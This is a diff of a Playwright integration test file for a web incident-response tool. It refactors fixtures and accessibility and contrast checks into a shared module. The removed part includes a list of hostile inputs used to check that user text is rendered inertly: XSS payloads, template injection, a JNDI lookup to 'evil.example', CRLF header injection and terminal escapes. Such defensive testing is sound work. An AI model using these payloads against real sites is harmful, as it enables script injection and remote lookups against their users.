@@ -2,105 +2,20 @@
 
 from __future__ import annotations
 
-import asyncio
 import re
-import shutil
-import socket
-from collections.abc import AsyncIterator
-from contextlib import asynccontextmanager
 from dataclasses import replace
 from datetime import timedelta
-from pathlib import Path
 
-import pytest
-import uvicorn
-from playwright.async_api import Browser, ConsoleMessage, Page, async_playwright, expect
+from playwright.async_api import expect
 
-from bot.kit.http_in import Origins
-from bot.model.actor import ON_CALL, TOCSIN, person
+from bot.model.actor import ON_CALL, TOCSIN
 from bot.model.ids import ApprovalId
 from bot.model.incident import SignalState
 from bot.model.run import ApprovalStatus, Question
 from bot.model.timeline import EntryKind, TimelineEntry
 from bot.web import words
 from tests.integrations.web import scene
-from tests.integrations.web.house import House, open_house
-from tests.servers import BROWSER_FLAGS
-
-HOSTILE = (
-    '<script>document.title="owned"</script>',
-    "<img src=x onerror=\"document.title='owned'\">",
-    '"><svg onload=document.title="owned">',
-    "'-document.title='owned'-'",
-    "</pre></textarea></title><script>document.title='owned'</script>",
-    "{{ 7 * 7 }}{% for x in [1] %}owned{% endfor %}",
-    "${jndi:ldap://evil.example}",
-    "javascript:document.title='owned'",
-    "pay \u202egnp.exe",
-    "\x1b]0;owned\x07 and \x7f",
-    "one\r\nSet-Cookie: owned=1",
-    "A" * 4096,
-)
-
-
-class Site:
-    """A house that a browser can reach, and people in front of it."""
-
-    def __init__(self, house: House, browser: Browser, address: str) -> None:
-        self.house = house
-        self.address = address
-        self.said: list[str] = []
-        self._browser = browser
-
-    @asynccontextmanager
-    async def visit(self, name: str, path: str = "/", *, scripts: bool = True) -> AsyncIterator[Page]:
-        """A browser of this person's own, signed in by a one-time link and standing on this page."""
-        link, _ = await self.house.door.make_link(person(scene.PEOPLE[name], "cli"))
-        async with await self._browser.new_context(java_script_enabled=scripts) as context:
-            page = await context.new_page()
-            page.on("console", self._hear)
-            page.on("pageerror", lambda error: self.said.append(str(error)))
-            await page.goto(self.address + link)
-            if not scripts:
-                await page.get_by_role("button", name="Open Tocsin").click()
-            await expect(page.get_by_role("navigation", name="Pages")).to_be_visible()
-            await page.goto(self.address + path)
-            if scripts:
-                await expect(page.locator("#live")).to_have_text("Live")
-            yield page
-
-    def _hear(self, message: ConsoleMessage) -> None:
-        if message.type in {"error", "warning"}:
-            self.said.append(message.text)
-
-
-@pytest.fixture(scope="module")
-async def browser(chromium: str) -> AsyncIterator[Browser]:
-    """One browser for all of these; everybody in it has a context of their own."""
-    async with (
-        async_playwright() as playwright,
-        await playwright.chromium.launch(executable_path=chromium, args=BROWSER_FLAGS) as launched,
-    ):
-        yield launched
-
-
-@pytest.fixture
-async def site(tmp_path: Path, played: Path, browser: Browser) -> AsyncIterator[Site]:
-    """A house served over real HTTP; nothing in it may make the browser's console complain."""
-    listening = socket.create_server(("127.0.0.1", 0))
-    host, port = listening.getsockname()
-    shutil.copy(played, tmp_path / "tocsin.db")
-    async with (
-        open_house(tmp_path / "tocsin.db", origins=Origins.listening(host, port)) as house,
-        asyncio.TaskGroup() as group,
-    ):
-        server = uvicorn.Server(uvicorn.Config(house.root, lifespan="off", log_config=None))
-        group.create_task(server.serve(sockets=[listening]))
-        visited = Site(house, browser, f"http://{host}:{port}")
-        yield visited
-        house.door.closing.set()
-        server.should_exit = True
-    assert visited.said == []
+from tests.integrations.web.site import FAINT, HOSTILE, LOST, Site
 
 
 async def test_a_person_opens_a_link_sees_the_incident_and_approves_and_another_sees_it_live(site: Site) -> None:
@@ -126,7 +41,7 @@ async def test_all_of_it_works_without_javascript(site: Site) -> None:
         await expect(page.get_by_text("2.13.4 cart 2026-11-18 09:02 dora")).to_be_visible()
         await page.get_by_label("A note for the timeline").fill("looking at it")
         await page.get_by_role("button", name="Add note").click()
-        await expect(page.get_by_text("looking at it")).to_be_visible()
+        await expect(page.get_by_role("paragraph").filter(has_text="looking at it")).to_be_visible()
         await page.get_by_text("Resolve…").click()
         await page.get_by_label("Why it is over").fill("false alarm")
         await page.get_by_role("button", name="Resolve", exact=True).click()
@@ -138,7 +53,7 @@ async def test_all_of_it_works_without_javascript(site: Site) -> None:
 
 async def test_what_somebody_types_stays_while_the_page_changes_around_it(site: Site) -> None:
     async with site.visit("ann", "/incidents/INC-1") as page:
-        reason = page.get_by_label("Reason (optional)")
+        reason = page.get_by_role("region", name="Questions that wait").get_by_label("Reason (optional)")
         await reason.fill("half a thou")
         await page.get_by_text("Output").click()
         given = scene.approval(given_by=("ben",), count=2)
@@ -219,7 +134,7 @@ async def test_a_screen_reader_finds_its_way(site: Site) -> None:
     async with site.visit("ann") as page:
         for path in PAGES:
             await page.goto(site.address + path)
-            assert await page.evaluate(_LOST) == [], path
+            assert await page.evaluate(LOST) == [], path
 
 
 async def test_words_stand_out_from_what_is_behind_them(site: Site) -> None:
@@ -227,9 +142,9 @@ async def test_words_stand_out_from_what_is_behind_them(site: Site) -> None:
         for path in PAGES:
             await page.goto(site.address + path)
             await page.emulate_media(color_scheme="light")
-            assert await page.evaluate(_FAINT) == [], path
+            assert await page.evaluate(FAINT) == [], path
             await page.emulate_media(color_scheme="dark")
-            assert await page.evaluate(_FAINT) == [], path
+            assert await page.evaluate(FAINT) == [], path
 
 
 async def test_text_that_means_harm_is_shown_and_does_nothing(site: Site) -> None:
@@ -258,43 +173,3 @@ async def test_text_that_means_harm_is_shown_and_does_nothing(site: Site) -> Non
         await expect(page.locator("#timeline").get_by_text("{{ 7 * 7 }}").first).to_be_visible()
         assert not (await page.title()).startswith("owned")
     site.said = [text for text in site.said if "404" not in text]  # the page that is nowhere
-
-
-_LOST = """() => {
-  const all = (selector) => [...document.querySelectorAll(selector)];
-  const ids = all("[id]").map((element) => element.id);
-  const pointed = all("[aria-labelledby]").map((element) => element.getAttribute("aria-labelledby"))
-    .concat(all("a[href^='#']").map((link) => link.getAttribute("href").slice(1)));
-  return [
-    ...(all("h1").length === 1 ? [] : ["not one heading of the first level"]),
-    ...all("input:not([type=hidden]), textarea, select").filter((field) => !field.labels.length),
-    ...all("img:not([alt])"),
-    ...all("button, a, summary").filter((control) => !control.textContent.trim() && !control.querySelector("img[alt]")),
-    ...ids.filter((id, index) => ids.indexOf(id) !== index).map((id) => `two are called ${id}`),
-    ...pointed.filter((id) => !ids.includes(id)).map((id) => `nothing is called ${id}`),
-  ].map((found) => found.outerHTML ?? found);
-}"""
-
-_FAINT = """() => {
-  // WCAG 2: 4.5 to 1 for text; half-transparent washes are laid over what is behind them first.
-  const channels = (color) => (color.match(/[\\d.]+/g) ?? []).map(Number);
-  const over = ([r, g, b, a = 1], below) => [r, g, b].map((value, index) => value * a + below[index] * (1 - a));
-  const behind = (element) => {
-    if (!element) return [255, 255, 255];
-    const color = channels(getComputedStyle(element).backgroundColor);
-    return color[3] === 0 ? behind(element.parentElement) : over(color, behind(element.parentElement));
-  };
-  const light = (rgb) => rgb.map((value) => value / 255)
-    .map((value) => (value <= 0.03928 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
-    .reduce((sum, value, index) => sum + value * [0.2126, 0.7152, 0.0722][index], 0);
-  const ratio = (one, other) => (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
-  return [...document.querySelectorAll("body *")]
-    .filter((element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim()))
-    .filter((element) => element.getClientRects().length && !element.closest(".unseen, .skip"))
-    .map((element) => {
-      const back = behind(element);
-      return [ratio(light(over(channels(getComputedStyle(element).color), back)), light(back)), element];
-    })
-    .filter(([contrast]) => contrast < 4.5)
-    .map(([contrast, element]) => `${contrast.toFixed(2)}: ${element.outerHTML}`);
-}"""
